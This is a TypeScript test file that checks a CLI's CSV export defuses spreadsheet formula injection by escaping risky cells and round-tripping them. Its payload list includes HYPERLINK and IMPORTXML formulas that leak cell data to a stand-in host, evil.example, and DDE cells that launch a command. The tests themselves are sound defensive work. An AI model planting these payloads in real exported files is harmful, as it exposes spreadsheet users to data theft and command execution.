import { appendFile, readFile } from 'node:fs/promises';
import path from 'node:path';
import { expect } from 'vitest';
import { escapeCsvFormula, formatCsv, parseCsv, unescapeCsvFormula } from '../../../core/common/io/csv';
import { loadProjectConfig } from '../../../core/node/project/projectFolder';
import { recordSession } from '../../core/node/export/recordSession';
import { cli } from '../../helpers/cli';
import { freshProject } from '../fixtures';
import { hostileGroup, type HostileCase } from '../hostile';

/** Cells that a spreadsheet would run, from OWASP's CSV-injection page and the usual payload lists. */
const FORMULAS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  "=cmd|' /C calc'!A0",
  '=IMPORTXML(CONCAT("http://evil.example/?", A2), "//a")',
  "-2+3+cmd|' /C calc'!A0",
  '@import',
  "'=already quoted",
  "''+two apostrophes",
];
const HARMLESS = ['demo-01', 'Ana', "it's fine", "'", "''", 'a=b', ' =leading space', '', '1-2', 'x@example.com'];

const cases: Array<HostileCase<null>> = [
  ...FORMULAS.map((cell) => ({
    name: `a cell ${JSON.stringify(cell)} is written with an apostrophe in front and read back exactly`,
    run() {
      const escaped = escapeCsvFormula(cell);
      expect(escaped).toBe(`'${cell}`);
      const table = parseCsv(formatCsv(['id'], [[escaped]]), 'x.csv');
      expect(unescapeCsvFormula(table.rows[0]!.fields[0]!)).toBe(cell);
    },
  })),
  ...HARMLESS.map((cell) => ({
    name: `a harmless cell ${JSON.stringify(cell)} is written as it is`,
    run() {
      expect(escapeCsvFormula(cell)).toBe(cell);
      expect(unescapeCsvFormula(cell)).toBe(cell);
    },
  })),
  {
    name: 'escape and unescape are inverse on 2,000 random cells of formula characters and apostrophes (seeded)',
    run() {
      let seed = 42;
      const next = () => (seed = (seed * 1103515245 + 12345) % 2 ** 31);
      const alphabet = "'=+-@\t\rab ";
      for (let i = 0; i < 2000; i++) {
        const cell = Array.from({ length: next() % 6 }, () => alphabet[next() % alphabet.length]).join('');
        const escaped = escapeCsvFormula(cell);
        expect(unescapeCsvFormula(escaped)).toBe(cell);
        expect(/^[=+\-@\t\r]/.test(escaped)).toBe(false);
      }
    },
  },
  {
    name: 'aloud export --format csv: an item id =HYPERLINK(…) and an annotator "+SUM(1)" are written defused, and validate --project accepts the file',
    async run() {
      const { project: demo, root } = await freshProject();
      const itemId = '=HYPERLINK("http://evil.example","x")';
      await appendFile(path.join(demo.dir, 'items.jsonl'), `${JSON.stringify({ id: itemId, text: 'Reply from imported data.' })}\n`);
      const project = await loadProjectConfig(demo.dir);
      await recordSession(project, '+SUM(1)', [{ id: itemId, click: 'Polite', complete: true }]);
      const out = path.join(root, 'export.csv');
      const exported = await cli('export', '--project', project.dir, '--format', 'csv', '--out', out);
      expect(exported.code, exported.err).toBe(0);
      const text = await readFile(out, 'utf8');
      expect(text).toContain(`"'=HYPERLINK(""http://evil.example"",""x"")"`);
      expect(text).toContain("'+SUM(1)");
      for (const row of parseCsv(text, out).rows) for (const cell of row.fields) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
      const validated = await cli('validate', out, '--project', project.dir);
      expect(validated.code, validated.out + validated.err).toBe(0);
    },
  },
];

export const csvInjectionGroup = hostileGroup<null>({
  surface: 'files',
  area: 'CSV export cells (formula injection, OWASP)',
  setup: () => null,
  cases,
});
